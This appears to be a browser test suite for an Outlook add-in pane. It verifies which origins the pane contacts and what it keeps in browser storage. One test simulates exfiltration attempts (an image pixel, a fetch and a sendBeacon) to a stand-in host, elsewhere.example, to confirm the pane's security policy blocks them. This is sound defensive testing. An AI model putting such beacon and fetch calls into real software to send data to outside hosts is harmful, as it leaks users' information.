import { stopChromium } from '../../outlook-host/chromium.ts';
import { answering } from '../../outlook-host/headers-answer.ts';
import { message } from '../../outlook-host/mailbox-item.ts';
import { openOutlook } from '../../outlook-host/outlook.ts';
import { sampleText } from '../expected.ts';
import { reaches } from '../view.ts';

// once is too often: see set-up-second-try.ts
jest.retryTimes(0);

afterAll(stopChromium);

test('the pane asks its own host and the two hosts of Office.js for files, and nobody for anything else', async () => {
  const headers = answering(sampleText('relay-delivery'));
  const outlook = await openOutlook({ item: message('1', 'First'), headers });
  await reaches(outlook.pane, 'verdict');
  await outlook.page.waitForTimeout(1000);
  const origins = new Set(outlook.traffic.answered.map((address) => new URL(address).origin));
  expect([...origins].sort()).toEqual([
    'https://addin.test',
    'https://ajax.aspnetcdn.com',
    'https://appsforoffice.microsoft.com',
    'https://outlook.office.com',
  ]);
  expect(outlook.traffic.unexpected).toEqual([]);
  // nothing of the message in any address
  for (const address of outlook.traffic.answered) expect(address).not.toMatch(/example|First|40\.95|52\.103/);
  await outlook.close();
});

test('the pane stores nothing in the browser, Office.js four values without the message; the headers are asked for once', async () => {
  const headers = answering(sampleText('relay-delivery'));
  const outlook = await openOutlook({ item: message('1', 'First'), headers });
  await reaches(outlook.pane, 'verdict');
  // asked in the frame itself: from outside, Chromium does not tell what a frame of another site keeps
  const kept = await outlook.pane.evaluate(async () => {
    const cookies = document.cookie;
    try {
      const databases = (await indexedDB.databases()).map(({ name }) => name);
      return { blocked: false, cookies, databases, local: { ...localStorage }, session: { ...sessionStorage } };
    } catch {
      return { blocked: true, cookies, databases: [], local: {}, session: {} };
    }
  });
  const ofOfficeJs = { local: ['Office API client'], session: ['_xdm_1_serializerVersion', '_xdm_1_xdmInfo', 'hostInfoValue'] };
  expect({ cookies: kept.cookies, databases: kept.databases }).toEqual({ cookies: '', databases: [] });
  // a Chromium with windows, and some readers' browsers, let a frame of another site keep nothing
  expect(Object.keys(kept.local)).toEqual(kept.blocked ? [] : ofOfficeJs.local);
  expect(Object.keys(kept.session).sort()).toEqual(kept.blocked ? [] : ofOfficeJs.session);
  expect(JSON.stringify([kept.local, kept.session])).not.toMatch(/example\.(?:com|org|net)|First|40\.95|52\.103/);
  expect(outlook.headersCalls).toHaveLength(1);
  await outlook.close();
});

test('its policy lets nothing out even if something tried', async () => {
  const outlook = await openOutlook({ item: message('1', 'First'), headers: answering(sampleText('relay-delivery')) });
  await reaches(outlook.pane, 'verdict');
  const escaped = await outlook.pane.evaluate(async () => {
    const image = new Image();
    image.src = 'https://elsewhere.example/pixel.png';
    const fetched = await fetch('https://elsewhere.example/data').then(
      () => true,
      () => false,
    );
    return { fetched, beacon: navigator.sendBeacon('https://elsewhere.example/beacon', 'x') };
  });
  expect(escaped.fetched).toBe(false);
  await outlook.page.waitForTimeout(300);
  expect(outlook.traffic.unexpected).toEqual([]);
  await outlook.page.context().close();
});
